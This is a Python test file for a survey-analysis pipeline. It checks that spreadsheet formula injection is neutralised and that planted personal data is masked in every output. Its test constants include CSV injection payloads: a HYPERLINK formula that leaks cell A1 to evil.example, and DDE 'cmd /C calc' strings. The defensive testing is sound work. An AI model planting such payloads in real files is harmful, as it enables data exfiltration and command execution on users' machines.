"""Files from strangers: spreadsheet formulas and personal data.

A survey, complaint log and transcript as a careless or hostile party might send them: segment
levels and free text that a spreadsheet would run as formulas, phone numbers, e-mail addresses and
names where no column declares them, a staff member's name in texts, a phone column renamed by the
survey tool. Each test asserts the message or the neutralised or masked output, and that no planted
personal value appears in any file the pipeline writes (data/processed, reports, logs, .snakemake).
"""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml
from studies import STUDY, WORKFLOW, copy_tree, snakemake

from servqual.privacy import pseudonym
from servqual.tables import FORMULA_STARTS, is_formula_like, read_table, write_table

#: Segment levels a spreadsheet would run (OWASP's examples) replacing the example's levels.
FORMULA_LEVELS = {
    "business": '=HYPERLINK("http://evil.example/?leak="&A1,"business")',
    "senior": "@SUM(1+1)*cmd|' /C calc'!A0",
}
FORMULA_BRANCH = {"Airport": "-2+3+cmd|' /C calc'!A0"}
#: A staff member named in open answers, complaints and a transcript, listed in privacy.names.
STAFF = "周志强"
STAFF_LATIN = "Zhou Zhiqiang"
PLANTED = {
    "phone": "13912345678",
    "email": "leak.me@example.org",
    "undeclared": "undeclared.secret@example.net",
}
OUTPUT_DIRS = ("data/processed", "reports", "logs", ".snakemake")
TARGETS = [
    "reports/waves/tables/invariance.csv",
    "reports/wave1/report.html",
    "reports/wave1/results.xlsx",
]


def output_texts(study: Path) -> dict[str, str]:
    """Every file the pipeline wrote, as searchable text: parquet files as CSV, zip containers
    (xlsx, docx, zip) member by member, other files decoded as UTF-8 (binary bytes dropped)."""
    texts = {}
    for folder in OUTPUT_DIRS:
        for path in (study / folder).rglob("*"):
            if not path.is_file() or path.suffix == ".png":
                continue
            data = path.read_bytes()
            if path.suffix == ".parquet":
                text = pd.read_parquet(path).to_csv()
            elif data[:2] == b"PK":
                with zipfile.ZipFile(io.BytesIO(data)) as archive:
                    text = "".join(archive.read(n).decode("utf-8", "ignore") for n in archive.namelist())
            else:
                text = data.decode("utf-8", "ignore")
            texts[str(path.relative_to(study))] = text
    return texts


def assert_nowhere(study: Path, values: list[str]) -> None:
    for name, text in output_texts(study).items():
        for value in values:
            assert value not in text, f"{name} contains {value!r}"


def run(study: Path, *args: str, salt: bool = True) -> subprocess.CompletedProcess:
    """Snakemake in the study, with the tests' salt in the environment or (salt=False) none."""
    if salt:
        return snakemake(*args, cwd=study)
    env = {k: v for k, v in os.environ.items() if k != "SERVQUAL_SALT"}
    return subprocess.run([sys.executable, "-m", "snakemake", "--cores", "2", *args], cwd=study,
                          capture_output=True, text=True, env=env)


def edit_config(study: Path, change) -> None:
    path = study / "config/config.yaml"
    config = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(config)
    path.write_text(yaml.safe_dump(config, allow_unicode=True, sort_keys=False), encoding="utf-8")


def survey(study: Path, wave: str) -> tuple[Path, pd.DataFrame]:
    path = study / f"data/raw/{wave}/survey.csv"
    return path, pd.read_csv(path, dtype=str, keep_default_na=False)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """The example study with formula segment levels, a declared comment box holding the
    respondents' own names, phones and e-mails and a staff name, an undeclared column, and a
    complaint log and transcript naming the staff member."""
    study = tmp_path_factory.mktemp("hostile")
    copy_tree(WORKFLOW + STUDY, study)
    for wave in ("wave1", "wave2"):
        path, frame = survey(study, wave)
        frame["customer_type"] = frame["customer_type"].replace(FORMULA_LEVELS)
        frame["branch"] = frame["branch"].replace(FORMULA_BRANCH)
        frame["comment"] = [
            f"我是{name}, call me on {phone} or {email}; {STAFF} was rude" if i % 3 == 0 else
            f"=HYPERLINK(\"http://evil.example\") ask {STAFF_LATIN}, ID {id_number}" if i % 3 == 1 else
            f"+{PLANTED['phone']} {PLANTED['email']}"
            for i, (name, phone, email, id_number) in enumerate(
                zip(frame["name"], frame["phone"], frame["email"], frame["id_number"], strict=True))
        ]
        frame["hobby_notes"] = PLANTED["undeclared"]
        frame.to_csv(path, index=False)
    complaints = study / "data/raw/wave1/complaints.csv"
    log = pd.read_csv(complaints, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    log.loc[0, "受理时间"] = PLANTED["phone"]  # a phone number typed into the timestamp column
    log.loc[1, "投诉内容"] = f"{STAFF}经理态度很差，邮箱 {PLANTED['email']}"
    log.loc[2, "类别"] = "=1+1"
    log.to_csv(complaints, index=False, encoding="utf-8-sig")
    transcript = study / "data/raw/wave1/interviews/customers_focus_group.txt"
    transcript.write_text(transcript.read_text(encoding="utf-8")
                          + f"王芳：柜台的{STAFF}经理态度很差，窗口太少，他电话 {PLANTED['phone']}。\n", encoding="utf-8")

    def change(config: dict) -> None:
        config["columns"]["free_text"] = ["comment"]
        config["privacy"] = {"names": [STAFF, STAFF_LATIN]}
        config["reliability"]["n_boot"] = 200

    edit_config(study, change)
    result = run(study, *TARGETS)
    assert result.returncode == 0, result.stderr[-5000:]
    return study


def personal_values(study: Path) -> list[str]:
    """Every value of the raw surveys' personal-data columns (and the respondent ids)."""
    values = []
    for wave in ("wave1", "wave2"):
        _, frame = survey(study, wave)
        values += [v for c in ("resp_id", "name", "phone", "email", "id_number") for v in frame[c]]
    return values


# --- spreadsheet formulas -------------------------------------------------------------------------


def test_every_csv_cell_that_would_run_as_a_formula_is_neutralised(hostile):
    checked = 0
    for folder in ("reports", "data/processed"):
        for path in (hostile / folder).rglob("*.csv"):
            with path.open(encoding="utf-8", newline="") as handle:
                for line, row in enumerate(csv.reader(handle), start=1):
                    for cell in row:
                        checked += 1
                        assert not is_formula_like(cell), f"{path.relative_to(hostile)} line {line}: {cell!r}"
    assert checked > 10_000
    segments = (hostile / "reports/wave1/tables/segments.csv").read_text(encoding="utf-8")
    assert "'" + FORMULA_LEVELS["senior"] in segments and "'" + FORMULA_BRANCH["Airport"] in segments
    # The branch level sorts first among the groups that invariance.csv lists in one cell.
    for name, neutralised in (("wave1/tables/segments_posthoc.csv", "'@SUM"), ("waves/tables/wave_segments.csv", "'=HYPERLINK"),
                              ("waves/tables/invariance.csv", "'-2+3"), ("wave1/tables/complaints_pareto.csv", "'=1+1")):
        assert neutralised in (hostile / "reports" / name).read_text(encoding="utf-8"), name


def test_the_pipeline_reads_its_tables_back_as_they_were(hostile):
    levels = set(read_table(hostile / "reports/wave1/tables/segments.csv")["level_value"])
    assert set(FORMULA_LEVELS.values()) <= levels
    # Numbers stay numbers: negative gaps are not neutralised text.
    gaps = read_table(hostile / "reports/wave1/tables/gaps_dimensions.csv")
    assert pd.api.types.is_float_dtype(gaps["gap"]) and (gaps["gap"] < 0).any()


def test_the_workbook_keeps_formula_text_as_quoted_text(hostile):
    book = openpyxl.load_workbook(hostile / "reports/wave1/results.xlsx")
    found = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if is_formula_like(cell.value):
                    found += 1
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
    assert found
    values = {cell.value for row in book["segments"].iter_rows() for cell in row}
    assert FORMULA_LEVELS["business"] in values  # shown as it was, without the quote


def test_the_report_shows_the_levels_without_the_quote(hostile):
    html = (hostile / "reports/wave1/report.html").read_text(encoding="utf-8")
    assert "@SUM(1+1)*cmd|&#x27; /C calc&#x27;!A0" in html or "@SUM(1+1)*cmd|' /C calc'!A0" in html
    assert "'@SUM" not in html and "&#x27;@SUM" not in html and "&#39;@SUM" not in html


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@A1", "\tx", "\rx", "a\r\nb", "'=x", "'plain"])
def test_write_and_read_table_round_trip(tmp_path, value):
    path = tmp_path / "t.csv"
    write_table(pd.DataFrame({"text": [value, "ok"], "n": [-1.5, 2.0]}), path)
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    assert len(rows) == 3 and rows[0] == ["text", "n"] and rows[1][1] == "-1.5"
    assert rows[1][0][:1] not in FORMULA_STARTS
    back = read_table(path)
    # A carriage return in a cell is written as the line break it is.
    expected = value.replace("\r\n", "\n").replace("\r", "\n")
    assert back["text"].tolist() == [expected, "ok"] and back["n"].tolist() == [-1.5, 2.0]


# --- personal data ----------------------------------------------------------------------------------


def test_no_planted_personal_value_reaches_any_output(hostile):
    assert_nowhere(hostile, [*personal_values(hostile), *PLANTED.values(), STAFF, STAFF_LATIN])


def test_declared_free_text_is_kept_masked_and_undeclared_columns_are_left_out(hostile):
    responses = pd.read_parquet(hostile / "data/processed/wave1/responses.parquet")
    assert "comment" in responses and "hobby_notes" not in responses and "attention" not in responses
    text = " ".join(responses["comment"])
    for mask in ("[name]", "[phone]", "[email]", "[id]"):
        assert mask in text, mask


def test_complaint_problems_echo_masked_values(hostile):
    problems = read_table(hostile / "reports/wave1/tables/complaint_problems.csv")
    assert "[phone]" in set(problems["value"])
    complaints = pd.read_parquet(hostile / "data/processed/wave1/complaints.parquet")
    assert complaints["text"].str.contains(r"\[name\]经理态度很差，邮箱 \[email\]").any()
    log = (hostile / "logs/wave1/complaints.log").read_text(encoding="utf-8")
    assert "[phone]" in log and PLANTED["phone"] not in log


def test_a_renamed_personal_data_column_is_an_error(tmp_path):
    """An export that renamed `phone` to `mobile` used to put every phone number into
    responses.parquet."""
    copy_tree(WORKFLOW + STUDY, tmp_path)
    path, frame = survey(tmp_path, "wave1")
    frame.rename(columns={"phone": "mobile"}).to_csv(path, index=False)
    result = run(tmp_path, "data/processed/wave1/responses.parquet")
    assert result.returncode != 0
    log = (tmp_path / "logs/wave1/clean.log").read_text(encoding="utf-8")
    assert ("data/raw/wave1/survey.csv: personal-data column(s) ['phone'] (config columns.personal_data) "
            "are not in the export") in log
    assert not (tmp_path / "data/processed/wave1/responses.parquet").exists()
    assert_nowhere(tmp_path, list(frame["phone"]))


def test_a_dry_run_writes_nothing_and_a_run_makes_an_owner_only_64_bit_salt(tmp_path):
    copy_tree(WORKFLOW + STUDY, tmp_path)
    before = {p for p in tmp_path.rglob("*") if ".snakemake" not in p.parts}
    result = run(tmp_path, "-n", salt=False)
    assert result.returncode == 0, result.stderr[-3000:]
    assert {p for p in tmp_path.rglob("*") if ".snakemake" not in p.parts} == before
    result = run(tmp_path, "data/processed/wave1/responses.parquet", salt=False)
    assert result.returncode == 0, result.stderr[-3000:]
    salt = tmp_path / ".servqual_salt"
    assert stat.S_IMODE(salt.stat().st_mode) == 0o600
    assert "scheme 2" in salt.read_text(encoding="utf-8").splitlines()[0]
    responses = pd.read_parquet(tmp_path / "data/processed/wave1/responses.parquet")
    assert responses["respondent"].str.fullmatch(r"R[0-9a-f]{16}").all()


def test_a_study_begun_with_48_bit_pseudonyms_keeps_them(tmp_path):
    copy_tree(WORKFLOW + STUDY, tmp_path)
    (tmp_path / ".servqual_salt").write_text("0123456789abcdef-earlier-study\n", encoding="utf-8")
    result = run(tmp_path, "data/processed/wave1/responses.parquet", salt=False)
    assert result.returncode == 0, result.stderr[-3000:]
    responses = pd.read_parquet(tmp_path / "data/processed/wave1/responses.parquet")
    _, frame = survey(tmp_path, "wave1")
    first = frame.set_index("resp_id").index[0]
    expected = pseudonym(first, b"0123456789abcdef-earlier-study", length=12)
    assert responses["respondent"].str.fullmatch(r"R[0-9a-f]{12}").all()
    assert expected in set(responses["respondent"])
